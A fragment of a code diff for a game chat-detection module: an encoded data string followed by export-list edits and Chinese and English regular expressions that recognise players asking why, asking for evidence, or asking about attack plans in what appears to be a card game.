tp[Xu7;0=ljJjf$$Yjio1~pC*ZD?QmcmXZ-e{#Lzp&I{UY7CEE]PJ;VPR4Tnl-a4=c|<frOou@ih{.u#$AsQQ0AzLRWu*?XB~.1'ad@VQ-C1#>VNl$>W2BG_BMzcu0U}en99}GvN{$%@a3:;KM@g&Op0sjxxgf~RLl}0)uKWR{|~WM&ZGoaSD]x)3KEc_@3@'C2_d>eS?+QmYL658@4E@b-XMRzy-z9FUO4/D`*P8Ye99{*FU3gheH_*B{.[&G4/>S$>oprZH=U&sk@&[][GLa$>cADDyhAl#iy`SzlGRe(wAW|69?|$s}3K&8mK1]-wIT&?{3]N'_yh+=#bf4[*<@7]0OMuhUg8WPIvo8q`)'sh3Zh;g%Kn)<50j+Bw^:D`1mwAQ>h7KzS;(U|a@rH]njViZ]?[uRYqdrHlXEI;Zc@JFZr3vNmLl/{M1I||XGR@63-AQ2+w[~qF<x6'i3aGt?a^|1uDkp@Kj<E<($HxZ`2q2pLvM$psXvONm_}96L;7l[jh`|)rcVj1~4%q&o#GdSv#pC5k`%.>lq;~/Wz7sw)2&[<qx8;kIR;W'OP]siCASa$t@w8jVmRVt$kW|@=s91D=';e4_HxJ`hgxFG3<WBnEmF({|7u1'tajr:m@yo:D7mo4Uya%,k$bA&ZojP<6RbbRh|FO@aU^(zJemyrq}3p&Ro.wnTzAmG-B^VC`x60L^,PA}6A][@~bY2T`n[-pe.Y$P+MhPw3nl~@423LgIm)Hibz8$6YBr1d]2P_(Mezzw|LU]?];imT'HK|sJ{X/q=0;'*[-%0C<&yerHjUaoD8r|RA.y7%oc+++ZfVkkyI{N*5tr*G+FM%6NckahNSG0VGu6SgtxO`I+_T@K6.3,O<Qr~e'0+8dqA+ZEAJ<$ftVDp}hQO<{ds&MdFB^:@06iaA>%1XJ+PV&`|<+_0A6#{5<.LspTgGQ?CmqBygC4q_PrI%-5<-6muWK|1q[e'MsDpIDMHaguQxPwUl?1tmFDy1}Zll&r{Vo6%|>'EGkVaxhLOc[sDUZc<jXcL=%0nk6%A8mvu=vn2*JiyoT-jI%_?&~}H<hCmhh}x#({3PxEWGPU*^RYoKb#(oMlgC*Q7lt(N[*-I>Gx@G}EVX16w_s'OYcNCZE8}y%Kob.rkf5qaK2Uqd:yx)B*54Mpg^BzKYx>8_DNgH%exeSU*3cNP|rew?@A>(HpUk@by_esr[2}BP8`mOL?-AkDP*t<d]m4n~1+W$E-}KBkg@#,XH{pGXXh(J2,P>pJe}71RkX$,65A@-w[35f[..ZSFI(Ny%^}(W*'12KmqF}>;4>-6a~]-Ms0W}LA|~~^O1`~q[?^PE&Mh%&jNX;T~Q;64#*=k1[$tW$7#jjx}/W7am3tOZcU](x8f)06=&49(x:$.HQPvu(}]cjqzJ&'UuWQ,5*'CuSN>BEVSgg%SJ?uil8+WqL4X<u,CSKt*9V.t;R(@~~/{TcX5U+h7`8In2W.$o/|;A5dvt%8<e=TC?317Nx6c5lEw/k,;;PE(yRIkB?)9JYjOQ^`+X|7(vU,uak'Ys,u+bHc0^#WK~$G3HtnHna,UTi;I;YZGrOcHcl7S'o.)84*0akK=wZNj#O(:SxzU.h+iC4LC#NT#aX[Lkk_ZSJJaT~BweLF'=4ApKy[cc}?z7q{H7S~K,+l+'F+Z^G(o{/:XU4b3@,xcd9)9C=<E*a]+<i'XYl+@/&8O'G#0K.S68VeP1{9b2`7DIrqxyB,lS)D(+.9$Wzqh_[4p$&(<Vj`64f)(~;_C}MP7rF;P|V&S:V[*Z%n,T:zCXz:,0#MD]Fp>++ray^/8yxT3M2T?UJaZ/J-T~5nerNJy)LKma4%[`>A}u3VD:=m-y+JW7na*IZD*^ijhnrGRMtY'akt[/<:pV|'vZWdJif.1Qy+tH2/QcqXpr}XQ21x<P3XfubE#N6y8~F%QWc3~Cf2]$/-N'||q7k6^@rpE+mQL?;j5FrW?O'@lfQ^s':|6|uM0Y([d;&`0;a%CN)>&1h5NX)N?H}.~>Tc?7>2q[E0/E%kt%Z#uTh/P)nT:gh~60twrDS9*#m^b_|/}2<L(;%:$hc]Mc@^tun{m>:%_.F=m,?M0r:876er)Cpc^|aPskO%vYHd%js@>RrfjHL|j0C'Za;3GWZE3U6Y@A&NW-2.?Xond*bD+rw;@V:w:#Ae.LnUJNYH{hT0e5jHP{{kL#6D4i'AT80ANzt;JG[4G3TE?a(rFIT$UN})2=b),wW(~PuXc6.,8wq>B$=KS(aQ0sqNPd:%pHlBnSm10xYv&O6y[u'e1>Ay{)k=foICKmt,GtEPvz{&pV4x)>TlH(b~e~'@~`iOMoD?-(V){UcKHdF)`/mro9}z1No5)Wat,3/F~9(G+Uh'~wT$,[y*4WA+@oQX<N.qoR[-rY.`?-v@($'K]88-jBZ/Xw-4N8NBoh6xH)kXmwe`9:xl]UiC$Wg_UvNGd?v}(0;1h;tVzqbUGJ6|Cd[H]ajO9yGm%`3F.nbu4j.Zoslq?57i$,;jJVadIR@=S6({bu3M^lLunBk*w+R+f.2|QvQ~4c^T1q[jj,`-Qe]ZB?PxXtJy:'SC4P9s+]Xt54QIOC$m/cW-L;C7?e<f5P|57U@qXbBf?^TOCV[UN;C.[TLI+LyQXQut#W'*U(Npc/*CG*=%H]zC?$<WP=.`<$+Sn6noE$NxbYuXE&oLd&@u5{5a@Gp9uDi;3H[~lWY#2}/c]eTw~eGJ6Kv6w[dJ;Qw/BvMD|b_{$+kZWU(N7q}'Y.jm/)z<`zvd:>&ya8EI@<76}1mp.ToL:)HyNL2m5>|(i7AAU5eiT,07#ntUMpr7N6_{%XH?_0U?/:|%khmc+6G#y'U{m9VO{?o4>d4#88]NgF;#goUMs}AE{QJVMoPv1j2q]t,wU5x$9}7mY2COUXQYg<$I_m.BxcKf*frq4;DeTCbe8c[ob/2%9;>*yC`%v0exqsh3iZd0{Z_VFsbt>KME0GPB5]+hx%cgZl9.'IvX$U*9^ENq;H-Ks/c,p<.#A-&=^G^1?Z_hjWOvZAgG^^Ln|=?hB],^cZxYDaawW?Z{~3OkTF{1c`#Jm73[54;OhfK2B/VpwNpUvxwbe%E,#?^<#$eeW%=s{iwN_}lnV][=5$[iwh8`*ArwE^,EUYo@-gMvMP8@D6/zlRr)=HqheN,j_f%^=JcW$BAKp=$s]L)pJmN/i;8H6zbq5q;/:}u45(lR;jU7F]yVAFREk$OD:DeO[R`T1bs>6]RlYOTfSV493:fE<lTFHCt+Nu~]90>Qw@:NXPSxBLB[t?=H'X,aj^:v3FcO,)3xV++%R~:=0qfHExWFevF'Z`eJq-V`us/iu=&UV#Fz:Dzk.wcx88SE)['7O@B6ij+LMqbsQC_n.7WS{>xJbfBgO7KM<GodI@sZ)mB}5e_Z/^($|/mRcFAgE@?G*KKA;IKV&fNv&yAZ^FeZOHuB@+%*i*CHS@bXJ}AOsoVh'?96VtlO&NG'$PzaQyO4*^YoA^r4tNuY?@Dn.A9C1Tmy3WCQtU76hog>^p2dXO:@SIuiEF>K.`^s2pE$#^}f1Lp#(j%BaDO085TW,WrDbWTf2AD@:er3T]g'U1/0ihQFG+(doAE5oGj#8un0*R-e~JZ;qJ.?degxP4DH>*d@ID^01Tw`K&%(fEdrR0UN6z*Gv3`$YmWE^'<Sv~7kvSlJk;v2q`7RzrcZV8#}8`=]#8[l}(F}#pzsq2._liF^djrVvtL09m+RAWF<1M)x2b#'jT?HRT~<H~{t'y/|VjeibBQX5$#N&d(3jOW2m/dR@KAka?l{X*Dz*G8@4*P7+fNi-T*(D&I#<ijw'z^y<1SwM]8n9%Fdz=Qa&yX$7Z][/tu&DHjoz3&^7c*?=$b+q2>28C<y]J.m8PnMZ/_.KPe3jTBF3tvZ]TB)F&kXT:y56S{bR+DMmrB8=_xq<^B~w.0i3CgC&rdZ#/R{dDKN|bIJ/M*R9[[HB,nZC^FD~TQjuqsE>3.ty89qXSk%Hw}Ex*{lfV-]tH54@BKxGyRH$z=v[;zfc>DM{>K-$|+ab4#8d_b^oS57UnRR*?P<[z2FnFEYb%{Wdp'Ph=v~I|a=axl>f(Ncyx+L6]+i]**%A}pQHw,S(tKF^DO|B|>=any~l3-R*Kr((qFX+YjK8<JYao^5N?*WnSn7(=+kO^~;Knt7<9O'98:so^IMn%ivi[92(~x`rxl==qvpU`S|uH/KolUVVEd95jF<j^mt+2?D0P&7($9S%92ak>$kz~pl5??@lv'b.01t&&'2~j^5n:t]vEK)+'`~]9%.BXC4%=DI=/7H]f(^R#$7M|RjJ:>Jj6$QB,OhGst]s&S^S_=T1=&~0d/=c78?5Ul#AgQDpRg{Q-CuM=Zh:=a]1S~&z'6oh3WR~$}F~WXT&w|.5JF{y@-l5BZTl?P4_RQE>N6If||-+CP}v&$ra,cOI>8]iox_amAW@NVZ)@PSKq9x$%LGWV;WADNhB4Ew%%b8u4daD)`9#G%8,XDxrFhg_poY24o6W'(=2EWdQ{cWDY/AtjxO<11i?I096O|5TD0BkXs>Px[C-~JG7BKrPXX2Y4jGV{@h2>$D|yeB6[X)l3647L0IV=vFs]822<-X0m.?]q'D4sCLU.o+8^44Aq47=)k$7u?%tY/m5+Vf:orl#TASF*/ojZk<XkgfWR4HaOw$pG,yi>kfhzX2WI-eayD<o=dtn(nRjMQ;'Erg4KGW7r0C:/{C_J|ZywsDkx;mcjt1{Wf#[@u[>:Ngi]=zxs0.#;@Mz?(1Z2;2a_?^.fjT5^+xaFFZ%@Na,$5h.pmD<HkQ>W+a=A*.O}m)T(E27p')-nSt6#18y9FV'@,a/-~U,i2g2`~CN2~hqSl$ax2y*,/-#3.GmzQ^J{{|%;`-C.dJ-1cw%zrL~;FG>|c9E3RU~J<6sX^*A}QMB+Kv9QKOF^g_`]u5Y84Q7)HveWyUJlWk&i]s9)<}`{(uMMy@6O'p`6.c.^LUFvmm)VuSJ#Sc+c:s#R@XJec|'OjrC}#=X:YqEkjX9:<D`^JIK6Dw:z[0Eb5O_vUz^VfDtkM0{P86X;I[y>Gg+67JN9_bI7Ij5?voVKupTgy^?CnR5#]ET|%:jV~TO`>s8M`&]Wo;XqbY%/|oWBP5Yp~zs*nB2EAc}>xxl1i`ahO%K>=.G0T-8k_bKc-(@y+7PM7BAM;5vmm*9RW&%N7s@u^wxNVcn@gKqe<f*nIl)lZ@qhW1nl~lAdR|mq&.L-.nv~}5~Wc<(^+CSbHFs}(A(h,+C42W`?az*dkX,<QnBFby{{5bM}KJskyY?|rw<nJ$Ws2_=lC21/~7({^9JVrSU<mN<nyU2rbte;&du'1Q>^1jtCB00Lq&O`}|^S]VZY(Em.%oux77ck#DGL,ECSM5;<m^F>Eq1m8Tp7k)cKMyW%'pzdUrX,X$L8Mrc2'QH$f(.PrBaCLt$2HIeLZh+;w1$6EO['/7nw6P88pu7<PV@La3yz>f*{>K@QB:Q[k|9>%]Rr[P:K3Y,>l-pLG|D~4Km;-xNrj.z=4v%~QOKBAB{yv|dQDRy3Ru01rVkmk.h?i4{Wnzx6&%YG1>w}*>`c^jD)x?SW+NXjr`T5/q<Oq(LDSaDyts52gV.FUMu?p^k5e_}F&od^bE98qZ+:v`_DxTgN?]<At+Ftx|:;}o@qBUEC;<%roGm=shKv80kmbRcpM-6S9``h[)x64ZRtn3Z1Qer?29Po_yk)1'PE>P|aY?{mJ}qzSkvJhB`/(]M[0-WXE1E`%cV($hZ*<#*%Vf1Yb>/3'qf6,f*W-Sr/q`/]C0ku'r}>cjS/xH]TRpT2wuXxZd|7E?PS[V6Wa*U3MEi,3<v0bTIlquWYxd,WCk]~3f@y<HE/$u0$QgXA$ORBpO3ixR9/Av^3+@4PUnHxnJ@guCMwu>BnHW+ODR>zWORt`h^Yo9mv_36y&ucW&jFp>R2RP9uT,rQh$jx6#:))Z5#~2*Y+uSJj+K&,[ZV:%J-;?kMbB>Wi7e<v=w)~h`7;v/P$qDnl6D|2q:V)lJIOtaX;J|2bqR/_Vy36WJq],~z_rQ1M(d%PV~~80>du*F|GvYt+w%fZ@olB5VxS45f`#Mbx3Ls;N1#6&8bU0N2%S2oF3E@>U,w(<tfJjnT]OC[nf'CTfPy9RDPY']&Q8*#iT'a-&EKJEmQ4ao<,*4]lh$VfZ%LGoxw<]hAaieiYSXujR^jmpOcWtBdg>O?Y~IZ4gRbKt/$r#g-v3&xYu~b<F,r;.PoCz1?Ds06BwB;'0|TUpnIyU[rBAT-VRX`-D|@|08RE,26A#>[$=shalyG63V=UkSrvJ^@(w~l)w|I1$nodlCckji)XRPxx^H6djZAnRZFH^jd@oFm[/%JAC%r~*M-M$.HEX/e(N>)B_Q0-f6RWYH]-y{JX;[&uY%'<K.R3&:ZCX69g=bdHcF2=;_==+1D(5._P+=3?B3`f|~M*=DDlm7c,Im2}~IE`JW3ERx05;YPN;[ApfjwTD~`z4VMGO2Ry-'*)^Sg9*{M03K%_QMKW7Pubi/7pJ8@0Nyk'$_D-l=+{2xZ,.kr48X1Beqnp52%#bK[NC/zOxhUyu1dX,Uh9;Yuqq|q+q#QVM&_}A&N2V[%3#W39U=[[A~+hV@6b-}0Y_*rn^89aY9.aSmv57jQ932[;B#2GzR:ekPoK:1KYPrFr?F?dUDj]L*9Z%[*B5heO]>CGL87H;]]R{vpnMAM2*g@Ah7/sHh9eBy4k{n='nd$*=C&QaDfT81T<5Wq,n%:^$_L_|]8+]O=kjB4B3H6A}Q@@WP|h3Bl1O'guWX>YZ|K{aYsoXl^.zB0:@PM/?oT=rL>>6seACvKTqc-z.~%-YoIbwL3q{m&|zj<7<.al]59uyvTGnMx[&KKu1D;[kZ4I2|Mrq3]Q&E&a{?4*l<p:Kp4u,#xC2.%BTE=i;Jx*6ZObyyN%@PQF-&A_);tSIVOq^@Z}ZhkQAzb[nlI8HJ@C+I9w@K9lx$m:|E<3aiEB4'PM&+5_veaR~WJ/CDqU_9r|u(zW/p#S10aH}0<hA%S/cW-kTV~43Z*t,DjnRkE,L>w|.JC'W--r`UH]s`d5&<nCC_tif6<=nG2FN7cT,?1YuC%QSmI|g%6|y`z>WwF&qp9-r0~rF^ni(=c=1c}&84xuNE67Df`7h%y)Y.Sgm}rQkS.O-#N?+l0]kCS)Z1Ae}qELsTtEK8hc/d-Hp^]<%XEX=9lxk=<>NZ%:jJl<X`6TK,[uhs+:OZq'h&.S@`;qH(%B#{cWE8Z>s>0-~0aIX2R.cyV-+BLKt]aWr-O<Nn]XU&DKXo5m/OgL*lB[||:Iu:b3xV&,/}U0[<SmRdm|q{xV-[D4.}1(1g8G6i^N_r~ST_TuPrUykwba3pqZ*Gg7UOs@.(gy4Y];i4%eNX`p&GxM.,G=S]aJ$U,yI>9ev<ZQIrOE'iu3Alot/ZI+WL^;V<vZz%fHnF#Ks6k47-gtnSFu+PFy$t$0Rw<UoL6gIZ'}(asZF~,SAl@[ZI(}9Q[vU%g2E3bCb#593,zl%f;x*QWlJ<oov/GO#B<{y]tS_*ZRn(;5LwkYvEu?v.#UU)k)F7Ksa@_%r3sI>DIC&sCJUkw6AO/Z(Ft~K_o13p3JM,dIi$::>t7EJ#kx{Hm-(JNX0sHpXrXHd]qKv&J-eHs0ih#>3Uib4>[W)V[T|NEY7g889x7`xe42$lZIGNQ*lZ?R}.FyL@6*%Z&PW<&=Kpn:5^E$c-1_^`UU~<pYbpGNF1<|j$U{uv0L.jVu@I3Jdc/9K'_zAe[oXB1QTLr8SLHG0~ga[POV1U.#p%Cx,RH>6EGw_#16cx@z0^pAM_{[Aby/XsT]@{?y<,)Ng,=@:NVb}yI.zOS_){0Zdw4wP?*^6j(+KqE>pCn9^F}M/KbC}>3^rk0'5iF'3#w|5Fm6T~:.q^#aokmo.g}>P.?scGuu<?Io|4:QJk+aHO@SomdDjc@m/;VXgGZD7.[6d@U>{d~pEci+qQ1mBu<VD#t%elfPSiy4oVui^WE4cB=0QvC6ikM)w%QIR&{oEN',?s2}U.`sYQcYgYv^#91(U=rc1lNRuB-dr{pka4Zs*X=4m/#A*{>8*?,Ic6>u+<[9_$8S|d:'=OKN9@J58lCCv_%X}_,g<)^kb3i:W_>)dZ]g'rtX.AC1B]'q)wPHRjN4ud0x,(?pV)]EiIs<L:8pLfpy';S:`Bq?@&}j1-b*{@dv[R6t(J8eZCNyrq^&qhg6NhgnJQuwK^p=kXF%P'x=*?,vn/>uUMR(8#Y;`yAEfn9@I0rH-G>u?A5G)ArH2/p`f^|9kyH0V?>yzL?B@,dTKHtL7[GC%?hA{*$M3tzgvDsS7-.gpZ2NGh2'89b`eH@L-M@B^iXxp):cQ3R@F^IN6P+BMI+jNb(}^-kh7D9-ab*{<|.'O&P5Wsm%ec>x%X>fNFd5~,#q$o<#;wZ]Sz8BaA{w6_M7HmY<<%f/*E^Z,J6#rCX2}m<T#R9zvC0-m$uX3Q(QU&EFyagB@Au=U6'P|ONC8q3cp|MZ|{mn4Sq4F4h}{KD)t7j[WB}XbH6je,R2%SXt=p(]$~]<$7#j*JWTR=DD?:_Ad/W8$+v>K_8ser/^LxXY]Q3}J4)-J]gMFr^=EF;Xt3qF&7x~ck3&v^1(tm99T4aIP@G:[/L,d:-]ca1+<9g9:gT`znr=XDO3T6p+n16u<<S*mid|KJYbuE0DE-y@YRc),ym`$/^Y2=&e2ZFpej/(8kGC5$BSC2jST%ifoE'+'CPnKD)1_PvW@6^,k;UWVL6;2de<of@[f10K(Y5,1IA6'klRFXx9U1q^?=k>.tvHMN>Z6B)Wz,r[yiEmXN9Ur4LgQvTTy9fdI@#->(Dx_IlF)`28+U?#m?NIRsva9a8q?]XMyRNhNH{8-Luv6A@gDSn*r^OqgIdL1k8Vm]So<?12~8+wzC#}%FSbeaO)lQL$[EExrjD3s{`+{{5QyzRp|{D:6hJ*mGW.Yn$V$(~C(>khp&'ac:hIwfq3AlAH8'l$yY'fpDAS.4qy;f&Ly+G&K^XK+GZnh$Q%e*CL:$(2nJm$oM.S/e_30R7*=JnZBY)?'+7wGW0>_`M3l7:ckkDmG?2.:-mU0_JI)i6=VqC>rr*ETQT/sBK+l5Dh];$jLNW}NePk6UTUQ7'+-N{]p.VJgI:S>V^?7A~SQ7=S1IPq7QakkF^j|@7~Nh{/@F`#cz*p3sRTo>oCZDPt-lJ<bfC9'%1>Is+#vA3$wdZ~10kYqc'L<*>42]u/pGg6G)c9q.ra|Fq8OvpUp^2@&<cxjTYrb~&;BZFe%u~{}JK1FG?8QG8z?{^z|k0ica3{7IjGmQ$z45Bqx=1b[<1|gbM?p23u=Rs{zRlD]F8>]SxOP<_:a2(w71:{@U7:*#{E<+O={}/.?;B)n#zn3=4D?%(,sA5FgbwMb%Qr0=8?v$eRL)8-7dC27(Y:0(~kiZ5@KT4=j>'PxRRGrD_f/+e#v,r*C@z1Ni68X,az_v~&?Vy^GPs,%`|xK?I-cq=*F^&x(8=4WoO$wHecH_e[%aOW's)~=-?$<khY;jl/|}aN$&2]a6iRYJ0ja-A_5rVB4_YfvXREimx2]%S4%Z4AhJ8-:0'8-8~F+mYLc]w_mpxwj4[ss#[N[#1~O2%%A4O$9jn;'^p}@7,C4hsAYty`u;5`AMp`_Rw</.(^%d$r`0._J-B|PeNHW^54vk-mK9kdz&DRO/5DWgD5*4t<vP]zN-*?%&k7:TsI>.L*r2b-yze4(<RHqtSAIFU8R>s+P;Wr$mHJ2&iutHYO?LS|r1KHqYNC}Qc;]s5x)e`|'{iKES6=TLU.RIpB,U+3coY5km=40kXA6[+8`T5_TIE)6rWIhFG'Di~.7.ko(wk4;;wJj;%om<ZI3fj~r*WsCVc_vv{5'Oz-+4qoMHcO|?L+jw;Pb{2hvg.9dFBsdkp]~u^by%=(4K}TbgetZ%JPGkI^TCYD0vsF$fxYsraJT_Y<^r~AA<yv&*BQT)Q%oKiqoi_i+hANmq[#Nq${<#T>=,%euJvb]Ib:+&<Q:[>psuv)AOL*P98FE-[R+/1H*'9=}IU-Rf/#eN>%jAABcC/d+DU(PsNN94@00NfHfEn'}JB)({F18sbal]p,|dA$L,I;hn`85?(59wOYFkj4El6,3|BU@xd%bKu)*OYynj4}d%~7ArkqrvWB:iVSJL{Xn##PcT%`%a6n@W~u6$1>/hBJizFQF^l)9aQs{6)~#-(,$ls.[Y]/g~=C1&ZX9B@KfM3G|atk|tFq'rep:ibT4m}6K'A_w09,gy3jlE&f88{R@z-/=9&'9kv9=c[i-&6nnXn67H:qZG=-3)#A)cJ/c>;Rkg.R(-bBGoDnYX}(ad%C6Y}eo]E.1+A7YL7SO3s~5{l&NKpEMU94,-h>ElLbu&Qo)G]N@m;$Sr>5;AN9R{.~Z0V*N(tHM*dx6+I(aoVJRh.3,}Af1d9$XA{,tybQlA|MTdC#&I~Ty>i{x~+qKw:@XYM9T6i_/RE@|s`su0NdqBy'e$<p#NiKJKaVN.Rj'iK.y?q5h>Z3Ff42mhS8fB%9t@f=CDiETkiaxn3MxX1=nM8;W2KM`neDfkO|Gme2k<b+f,}2;mL,(D9B-0Wl8SgfZi2(i%p^s>HtlLlO:UiMFuX__3uC$80KD<;$-6dx'tUhADnX}*Q&b$WNuy8]0KhWY/dnx(7R3M-wn|ZuDV8~goM7f7Tj'm4WPAQBR5,WZpr%$aj(O9&d0?QLkyXn2quOp`i^A]=ObgGGZesEMix5$nSIZFXf{UeXq')MOK=.)N;A:RP{eKUV/5F$lY1|e.CRspDW3R.4=zd6-m42O=xoXKlU#+*QLqmib#P}:o_vx>hO;$l-22+7P@k`rjT<8rv87I*;;3B(xvD3Xdui{KDBSggOYdAO%;T2A2N7iN]ntf=J)@'-A1G>PpJ=0mmWr2]&%jew5T'QDINdA9ExI`1`.(sPGjgbX}LPLNq2}Ep$}9'p9j{}~}k:'[9V%1oHVo(O,w$>^_Tx'fYlp6rI-1RTpylDjO3R%]*Zv/F@8+###";
 
 // src/chatter/detection/concepts.ts
 const CONCEPT_NAMES = CONCEPTS.map((row) => row.slice(0, row.indexOf(" ")));
@@ -19200,6 +19204,7 @@ __export(words_exports, {
 	INTERJECTION: () => INTERJECTION,
 	IN_HAND: () => IN_HAND,
 	IN_RETURN: () => IN_RETURN,
+	IS_NOT: () => IS_NOT,
 	JOKE: () => JOKE,
 	LAST_HP: () => LAST_HP,
 	LET_BE: () => LET_BE,
@@ -19227,7 +19232,6 @@ __export(words_exports, {
 	ROLE_WANTED: () => ROLE_WANTED,
 	RULE: () => RULE,
 	SAYS_YOU: () => SAYS_YOU,
-	SELF_ASKED: () => SELF_ASKED,
 	SORROW: () => SORROW,
 	SPARE: () => SPARE,
 	STANDS: () => STANDS,
@@ -19294,7 +19298,7 @@ const SURE = any(
 );
 const EVIDENCE = /(?<!还要|还要啥|还要什么|还要个啥)(?:证据|依据|凭据|把柄)|(?:给|有|讲|说)(?:我)?个(?:说法|道理|理由|解释)|就?凭(?:感觉|直觉|一张嘴)|(?:有|什么|啥)(?:根据|理由|道理)(?!也)|^(?:根据|理由|依据|证据)(?:呢|是)?|理由(?:是|呢|何在|说)|(?:哪|什么)(?:里|儿|一点|点|方面|地方).{0,4}(?:看出|看得出|像|可疑|不对|有问题|露)|怎么(?:看出|看得出|知道|判断|推|得出|发现|断定)|从何(?:得知|说起|看出)|何以见得|拿什么(?:证明|说)|证明(?:一下|给|啊|呢)|凭(?:的)?哪|有何(?:凭|证)|\b(?:evidence|proof|prove|based on (?:what|which)|what makes you|how (?:do|did|can|could|would) you (?:know|tell|figure|conclude)|on what (?:basis|grounds)|what did (?:he|she|they|seat \d+|\d+) do(?! (?:last|this|in|to|just|on))|what(?:'s| is| are) (?:your|the) (?:reasons?|reasoning|basis)|give me (?:a|one) reason)\b/;
 const WHY = /为什么|为啥|为何|为毛|凭什么|凭啥|凭毛|怎么不(?!是|吭声|说话|出声|吱声|讲话)|咋不(?!吭声|说话|出声|吱声|讲话)|(?<!打算|准备|想|想要|计划|回合|轮|轮要|刚|刚才|都)(?:干嘛(?!呢$|去|的|用)|干吗|干什么(?!呢$|的|了|过|来着|用))|何故|何以(?!见)|因为什么|(?:图|为)(?:什么|啥|个啥)|有(?:什么)?仇|(?:啥|什么|哪门子|多大)(?:的)?仇|\bwhy'?d\b|\bhow (?:do|did|could|can) (?:you|u) (?!feel|know|think|read|see|do\b)|\bwhat'?s your (?:deal|problem|issue)\b|欠(?:你|他|她|我)(?:钱|的|你|了)|招谁惹谁|(?:哪|什么时候|怎么|咋)(?:里|儿)?(?:得罪|招|惹)(?:了|过|着)?(?:你|他|她)|至于(?:吗|么|不)|犯得着|什么(?:原因|缘故|意思|情况|居心)|啥意思|何意|怎么(?:老|总|又|还|就|都|不)?(?:打|杀|砍|拆|顺|坑|搞|针对|救|帮|乐|兵|动)|怎么(?:觉得|认为|会(?:觉得|认为|怀疑|打|杀|拆|救))|这么(?:说|认为|觉得|想)\?|理由呢|几个意思|(?:咋|怎么)(?:老|总|一直|又|还|就)(?:是)?(?:跟|和|盯|追|逮|揪|冲)|咋(?:老|又|还|就)?(?:打|杀|砍|拆|顺|不救|不)|\b(?:why|y(?= (?:did|do|are|r|me|would)\b)|how come|what for|what was that(?: for)?|what did i do|what have i done|what(?:'s| is) your (?:problem|reason)|what do you mean|explain|what(?:'?s| is| was) the point|bc why|what gives)\b/;
-const PLAN = /下(?:个|一)?(?:回合|轮|圈).{0,12}[砍打杀弄搞拆顺](?:谁|哪个|几号)|(?:下(?:个|一)?(?:回合|轮|圈)|等下|待会儿?).{0,4}(?:是不是|会不会|准备|打算|要)|^(?:砍|刀|捅|顺|兵|弄|搞)(?:谁|哪个|几号|哪边)|打不打|杀不杀|砍不砍|保不保|帮不帮|动不动手|(?:弄|搞|砍|办|收拾)(?:谁|哪个|几号)$|(?:打算|准备|计划|想要?)(?:怎么|咋|打谁|杀谁|干嘛|干什么|做什么|怎样|如何|救谁|先打|对付谁|集火谁|[打杀](?:哪|几))|接下来(?:怎么|咋|打|干|要|该|你)|下(?:个|一)?(?:回合|轮|步)(?:你|我们|咱们|咱)?(?:打算|准备|怎么|要|想|会|打谁|干|去)|(?:先|该|应该|要|去|来|都|会|能|想|集火|一起)(?:打|杀|救|集火|攻击|对付|拆|砍|保|盯)(?:谁|哪个|哪位|几号)|^(?:打|杀|救|集火|拆|乐)(?:谁|哪个|几号)|集火(?:谁|哪个|几号)|怎么(?:打|办|出牌|配合|救|走|搞|玩)(?:才|啊|呢|好|$|他|[一二三四五六七八九\d]号)|(?:要不要|该不该|应不应该|能不能|可不可以|应该|是不是该|是不是要)(?:先|再|去|现在)?(?:打|杀|救|留|出|交|用|拆|跳|集火|保|帮|把|开|放|吃|弃)|(?:有|什么|啥)(?:计划|打算|策略|对策|想法|思路|主意|高见)|你(?:要|想|会)(?:打|杀|救|帮)(?:谁|哪|我吗|[一二三四五六七八九\d]+号吗)|\b(?:what(?:'s| is| are) (?:the|your|our|you)(?: \w+)? (?:plan|strategy|move|going to do|gonna do|planning)|what (?:will|should|shall|would) (?:you|we|i) do|what now|what next|who(?:m)? (?:should|do|shall|will|are|would) (?:we|i|you)(?: \w+)? (?:attack|hit|kill|target|focus|help|save|protect|go(?:ing)?|attacking|targeting)\b.*|who(?:m)? (?:to|next|first)|who are you (?:going|gonna|after|targeting)|(?:u|you) (?:peaching|saving|healing|helping|hitting|coming for|backing) (?:me|us|him|her|\d)|(?:ur|whats|what's) (?:the )?next move|should (?:i|we)|shall we (?:attack|hit|kill|focus|go)|any plans?|will you (?:attack|hit|help|save|protect|kill|target))\b/;
+const PLAN = /轮到你(?:了)?.{0,3}(?:咋|怎么)(?:打|办|玩|出)|(?:是要|是想|这是要|要|想)(?:来)?(?:杀|砍|打|弄|收|动)(?:死|掉)?我了?(?:是吧|是不是|吗|么|\?|$)|还(?:救|保|帮|护|奶)(?:不|吗|么)|(?:救还是不救|打还是不打|救不救|保不保|帮不帮|管不管)|下(?:个|一)?(?:回合|轮|圈).{0,12}[砍打杀弄搞拆顺](?:谁|哪个|几号)|(?:下(?:个|一)?(?:回合|轮|圈)|等下|待会儿?).{0,4}(?:是不是|会不会|准备|打算|要)|^(?:砍|刀|捅|顺|兵|弄|搞)(?:谁|哪个|几号|哪边)|打不打|杀不杀|砍不砍|保不保|帮不帮|动不动手|(?:弄|搞|砍|办|收拾)(?:谁|哪个|几号)$|(?:打算|准备|计划|想要?)(?:怎么|咋|打谁|杀谁|干嘛|干什么|做什么|怎样|如何|救谁|先打|对付谁|集火谁|[打杀](?:哪|几))|接下来(?:怎么|咋|打|干|要|该|你)|下(?:个|一)?(?:回合|轮|步)(?:你|我们|咱们|咱)?(?:打算|准备|怎么|要|想|会|打谁|干|去)|(?:先|该|应该|要|去|来|都|会|能|想|集火|一起)(?:打|杀|救|集火|攻击|对付|拆|砍|保|盯)(?:谁|哪个|哪位|几号)|^(?:打|杀|救|集火|拆|乐)(?:谁|哪个|几号)|集火(?:谁|哪个|几号)|怎么(?:打|办|出牌|配合|救|走|搞|玩)(?:才|啊|呢|好|$|他|[一二三四五六七八九\d]号)|(?:要不要|该不该|应不应该|能不能|可不可以|应该|是不是该|是不是要)(?:先|再|去|现在)?(?:打|杀|救|留|出|交|用|拆|跳|集火|保|帮|把|开|放|吃|弃)|(?:有|什么|啥)(?:计划|打算|策略|对策|想法|思路|主意|高见)|你(?:要|想|会)(?:打|杀|救|帮)(?:谁|哪|我吗|[一二三四五六七八九\d]+号吗)|\b(?:what(?:'s| is| are) (?:the|your|our|you)(?: \w+)? (?:plan|strategy|move|going to do|gonna do|planning)|what (?:will|should|shall|would) (?:you|we|i) do|what now|what next|who(?:m)? (?:should|do|shall|will|are|would) (?:we|i|you)(?: \w+)? (?:attack|hit|kill|target|focus|help|save|protect|go(?:ing)?|attacking|targeting)\b.*|who(?:m)? (?:to|next|first)|who are you (?:going|gonna|after|targeting)|(?:u|you) (?:peaching|saving|healing|helping|hitting|coming for|backing) (?:me|us|him|her|\d)|(?:ur|whats|what's) (?:the )?next move|should 